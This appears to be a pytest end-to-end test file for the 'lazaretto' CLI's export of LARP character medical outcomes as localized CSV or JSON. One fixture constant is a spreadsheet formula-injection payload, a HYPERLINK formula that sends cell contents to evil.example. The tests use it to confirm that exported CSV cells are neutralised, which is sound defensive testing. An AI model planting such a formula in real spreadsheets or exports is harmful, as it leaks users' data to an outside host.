"""``lazaretto export characters`` (issue 26, item 2): the medical outcome per character
after the game, as CSV (headers in the user's language, formula-looking names made
harmless) or JSON, with the JoinRPG group, the time and cause of a death."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from tests.e2e.clitools import Run, cli_runner, ok, ok_json

EXAMPLE = Path(__file__).parents[2] / "docs" / "examples" / "joinrpg-roster.json"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HEADERS = {
    "en": [
        "id",
        "name",
        "group",
        "state",
        "alive",
        "died at (campaign time)",
        "cause of death",
        "diseases had",
        "diseases cured",
        "days in hospital",
    ],
    "ru": [
        "id",
        "имя",
        "группа",
        "состояние",
        "жив",
        "время смерти (игровое)",
        "причина смерти",
        "болезни",
        "вылеченные болезни",
        "дней в госпитале",
    ],
}


@pytest.fixture
def run(tmp_path: Path) -> Run:
    """A LARP campaign from the JoinRPG example, a player-typed formula as a name, and
    Vera dead of the plague at 12:30."""
    invoke = cli_runner(tmp_path / "c.db")
    env = {"LAZARETTO_CAMPAIGN": "g"}

    def in_campaign(*args: str, lang: str = "en") -> Any:
        return invoke(*args, lang=lang, env=env)

    ok(
        invoke(
            "campaign",
            "create",
            "g",
            "--ruleset",
            "warhammer-larp",
            "--seed",
            "1",
            "--start",
            "2026-06-13T09:00",
        )
    )
    ok(in_campaign("character", "import", str(EXAMPLE), "--format", "joinrpg"))
    ok(in_campaign("character", "add", "2001", "--name", FORMULA, "--race", "+race"))
    ok(in_campaign("clock", "advance", "3h30m"))
    ok(in_campaign("act", "kill", "--character", "1001", "--cause", "чума"))
    return in_campaign


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("lang", ["en", "ru"])
def test_the_csv_has_its_columns_in_the_users_language(run: Run, lang: str) -> None:
    rows = table(ok(run("export", "characters", lang=lang)))
    assert rows[0] == HEADERS[lang]
    by_id = {r[0]: dict(zip(HEADERS[lang], r, strict=True)) for r in rows[1:]}
    assert sorted(by_id) == ["1001", "1002", "2001"]
    vera = by_id["1001"]
    yes, no = ("yes", "no") if lang == "en" else ("да", "нет")
    assert vera[HEADERS[lang][2]] == "Госпиталь Ордена"  # the JoinRPG group
    assert vera[HEADERS[lang][4]] == no
    assert vera[HEADERS[lang][5]] == "2026-06-13T12:30"
    assert vera[HEADERS[lang][6]] == "чума"
    assert by_id["1002"][HEADERS[lang][4]] == yes
    assert by_id["1002"][HEADERS[lang][9]] == "0.0"


def test_a_formula_looking_name_is_neutralised(run: Run) -> None:
    rows = table(ok(run("export", "characters")))
    cells = [c for r in rows for c in r if c]
    assert f"'{FORMULA}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_json_keeps_types_for_scripts(run: Run) -> None:
    rows = ok_json(run("export", "characters", "--format", "json"))
    vera = next(r for r in rows if r["id"] == "1001")
    assert vera["alive"] is False and vera["cause"] == "чума"
    assert vera["group"] == "Госпиталь Ордена" and vera["hospital_days"] == 0.0
    assert next(r for r in rows if r["id"] == "2001")["name"] == FORMULA  # JSON: as typed


def test_output_writes_a_file_a_spreadsheet_opens_as_utf8(run: Run, tmp_path: Path) -> None:
    out = tmp_path / "итоги.csv"
    said = ok(run("export", "characters", "-o", str(out), lang="ru"))
    assert "Записано персонажей: 3" in said
    data = out.read_bytes()
    assert data.startswith("\ufeff".encode())  # Excel reads UTF-8 with a BOM
    assert table(data.decode("utf-8"))[0] == HEADERS["ru"]


def test_an_empty_campaign_exports_only_the_header(tmp_path: Path) -> None:
    invoke = cli_runner(tmp_path / "e.db")
    ok(invoke("campaign", "create", "e", "--ruleset", "zone-larp"))
    out = ok(invoke("export", "characters", env={"LAZARETTO_CAMPAIGN": "e"}))
    assert table(out) == [HEADERS["en"]]
    assert (
        json.loads(
            ok(invoke("export", "characters", "--format", "json", env={"LAZARETTO_CAMPAIGN": "e"}))
        )
        == []
    )
